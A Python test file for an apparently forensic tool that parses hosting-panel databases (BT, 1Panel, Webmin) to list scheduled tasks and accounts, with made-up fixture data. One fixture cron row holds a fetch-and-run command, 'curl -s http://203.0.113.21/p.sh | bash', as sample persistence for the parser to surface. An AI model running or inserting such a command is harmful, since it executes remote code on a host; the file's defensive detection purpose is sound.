"""Databases made with the panels' own schemas; their contents are made up."""

import sqlite3

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hemostat.model.evidence import Evidence, Parsed
from hemostat.model.path import HostPath
from hemostat.model.records import Mechanism, PanelAccount, StartupLine
from hemostat.parse.host.panel_databases import (
    parse_panel_database,
    parse_panel_log,
    parse_webmin_users,
)
from hemostat.parse.place import Place

BT = """
CREATE TABLE crontab (id INTEGER PRIMARY KEY AUTOINCREMENT, name TEXT, type TEXT, where1 TEXT,
 where_hour INTEGER, where_minute INTEGER, echo TEXT, addtime TEXT, status INTEGER DEFAULT '1',
 save INTEGER DEFAULT '3', backupTo TEXT, sName TEXT, sBody TEXT, sType TEXT, urladdress TEXT);
CREATE TABLE users (id INTEGER PRIMARY KEY, username TEXT, password TEXT, login_ip TEXT,
 login_time TEXT, phone TEXT, email TEXT);
INSERT INTO users VALUES (1, 'ab12cd34', 'hash', '198.51.100.4', '2026-11-01 09:00:00', '', '');
INSERT INTO crontab (name, type, where1, where_hour, where_minute, echo, sBody, sType, urladdress)
 VALUES ('备份数据库[ALL]', 'day', '', 1, 30, '3c6a', '', 'database', ''),
 ('x', 'minute-n', '5', '', '', '9f2b', 'curl -s http://203.0.113.21/p.sh | bash', 'toShell', ''),
 ('ping', 'hour', '', '', 0, '77aa', '', 'toUrl', 'https://shop.example/cron.php');
INSERT INTO crontab (name, type, echo, status) VALUES ('off', 'day', '5555', 0);
"""
ONE_PANEL = """
CREATE TABLE cronjobs (id INTEGER PRIMARY KEY, created_at datetime, name TEXT, type TEXT, spec TEXT,
 command TEXT, container_name TEXT, script TEXT, website TEXT, db_type TEXT, url TEXT, status TEXT);
INSERT INTO cronjobs VALUES
 (1, '', 'clean', 'shell', '0 2 * * *', '', '', 'docker system prune -f', '', '', '', 'Enable'),
 (2, '', 'site', 'website', '0 3 * * *', '', '', '', 'all', '', '', 'Enable'),
 (3, '', 'in', 'shell', '0 3 * * *', 'sh', 'web', 'nginx -t', '', '', '', 'Enable'),
 (4, '', 'off', 'shell', '0 3 * * *', '', '', 'id', '', '', '', 'Disable');
"""


def database(script: str) -> bytes:
    connection = sqlite3.connect(":memory:")
    connection.executescript(script)
    return connection.serialize()


def parsed(data: bytes, path: str = "/www/server/panel/data/default.db") -> Parsed[object]:
    place = Place(HostPath(path), "", Mechanism.CRON, "")
    return parse_panel_database(Evidence(data, HostPath(path)), place)  # type: ignore[return-value]


def tasks(of: Parsed[object]) -> list[tuple[str, str]]:
    return [(r.command, r.trigger) for r in of.records if isinstance(r, StartupLine)]


@pytest.mark.requirement("A4.13")
def test_tasks_of_bt_are_what_a_person_wrote_else_the_panels_script() -> None:
    found = parsed(database(BT))
    assert tasks(found) == [
        ("/www/server/cron/3c6a", "day 1 30"),
        ("curl -s http://203.0.113.21/p.sh | bash", "minute-n 5"),
        ("curl -sS 'https://shop.example/cron.php'", "hour 0"),
    ]
    (account,) = [each for each in found.records if isinstance(each, PanelAccount)]
    assert (account.name, account.address) == ("ab12cd34", "198.51.100.4")
    assert "hash" not in repr(found)
    assert found.unread == ()


def test_the_first_schema_of_bt_names_scripts_only() -> None:
    found = parsed(database("CREATE TABLE crontab (id INTEGER, name TEXT, type TEXT, echo TEXT);"
                            "INSERT INTO crontab VALUES (1, 'a', 'day', 'ffff')"))  # fmt: skip
    assert tasks(found) == [("/www/server/cron/ffff", "day")]


def test_tasks_of_1panel_that_run_on_the_host() -> None:
    found = parsed(database(ONE_PANEL), "/opt/1panel/db/1Panel.db")
    assert tasks(found) == [("docker system prune -f", "0 2 * * *")]


def test_a_view_that_never_ends_is_not_asked() -> None:
    endless = (
        "CREATE VIEW crontab AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
        "SELECT i AS id, 'x' AS echo FROM n"
    )
    assert tasks(parsed(database(endless))) == []


@settings(deadline=None)
@given(st.integers(0, 20_000), st.binary(min_size=1, max_size=40))
def test_a_damaged_database_never_raises_and_says_so(place: int, damage: bytes) -> None:
    data = database(BT)
    broken = data[:place] + damage + data[place + len(damage) :]
    parsed(broken)
    assert parsed(b"x" + data).unread != ()


def test_changes_in_a_log_beside_it_are_said() -> None:
    place = Place(HostPath("/opt/1panel/db/1Panel.db-wal"), "", None, "")
    assert parse_panel_log(Evidence(bytes(64), place.path), place).unread != ()
    assert parse_panel_log(Evidence(b"", place.path), place).unread == ()


def test_accounts_of_webmin_without_their_passwords() -> None:
    place = Place(HostPath("/etc/webmin/miniserv.users"), "", None, "")
    data = b"root:x:0::::::0:0:::\nops:$6$aa$bbbb:::\nbroken\n"
    found = parse_webmin_users(Evidence(data, place.path), place)
    assert [each.name for each in found.records] == ["root", "ops"]
    assert len(found.unread) == 1
    assert "bbbb" not in repr(found.records)


def test_a_number_that_is_none_hides_no_task() -> None:
    data = database(
        "CREATE TABLE crontab (id, name, sBody, sType);"
        "INSERT INTO crontab VALUES ('²', 'x', 'curl x', 'toShell');"
        f"INSERT INTO crontab VALUES ('{'9' * 5000}', 'y', 'curl y', 'toShell');"
    )
    result = parsed(data)
    assert [each.command for each in result.records] == ["curl x", "curl y"]  # type: ignore[attr-defined]
    assert result.unread == ()
